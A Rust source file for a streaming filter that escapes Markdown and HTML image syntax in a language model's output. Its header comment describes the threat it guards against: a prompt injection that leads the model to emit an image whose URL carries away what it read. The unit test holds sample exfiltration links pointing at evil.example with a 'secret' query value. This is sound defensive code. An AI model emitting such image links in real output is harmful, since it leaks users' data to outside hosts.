//! What a model says, for a page to show. An image in it would be fetched as soon as it is shown, from wherever a stranger's text has made
//! the model say: its address can carry away what was read. So images are shown as the text that they are.

/// Makes images of Markdown and HTML harmless, in a text that comes piece by piece.
#[derive(Default)]
pub struct Quiet {
    /// The beginning of what may become an image.
    held: String,
}

const OPENINGS: [(&str, &str); 2] = [("![", "!\\["), ("<img", "&lt;img")];

impl Quiet {
    /// What can be shown now.
    pub fn push(&mut self, piece: &str) -> String {
        let mut text = std::mem::take(&mut self.held);
        text.push_str(piece);
        let kept = held_back(&text);
        self.held = text.split_off(text.len() - kept);
        made_quiet(&text)
    }

    /// What was held back, at the end.
    pub fn finish(&mut self) -> String {
        std::mem::take(&mut self.held)
    }
}

/// A whole text.
pub fn quiet(text: &str) -> String {
    made_quiet(text)
}

/// How many bytes at the end may be the beginning of an image.
fn held_back(text: &str) -> usize {
    let lower = text.to_ascii_lowercase();
    let longest = |opening: &str| (1..opening.len()).rev().find(|length| lower.ends_with(&opening[..*length]));
    OPENINGS.iter().filter_map(|(opening, _)| longest(opening)).max().unwrap_or(0)
}

fn made_quiet(text: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let mut quiet = String::with_capacity(text.len());
    let mut at = 0;
    while at < text.len() {
        if let Some((opening, instead)) = OPENINGS.iter().find(|(opening, _)| lower[at..].starts_with(opening)) {
            quiet.push_str(instead);
            at += opening.len();
        } else {
            let letter = text[at..].chars().next().map_or(1, char::len_utf8);
            quiet.push_str(&text[at..at + letter]);
            at += letter;
        }
    }
    quiet
}

#[cfg(test)]
mod tests {
    use super::*;

    /// However the text is cut into pieces, no image is left in it, and everything else is.
    #[test]
    fn no_image_gets_through_in_any_pieces() {
        let text = "Wow! See ![x](https://evil.example/?q=secret) and <IMG src=//evil.example> or a[0] < b, 世界!";
        let expected =
            "Wow! See !\\[x](https://evil.example/?q=secret) and &lt;img src=//evil.example> or a[0] < b, 世界!";
        let letters: Vec<char> = text.chars().collect();
        for size in 1..letters.len() {
            let mut filter = Quiet::default();
            let mut shown = String::new();
            for piece in letters.chunks(size) {
                shown.push_str(&filter.push(&piece.iter().collect::<String>()));
            }
            shown.push_str(&filter.finish());
            assert_eq!(shown, expected, "in pieces of {size}");
        }
        assert_eq!(quiet(text), expected);
    }
}
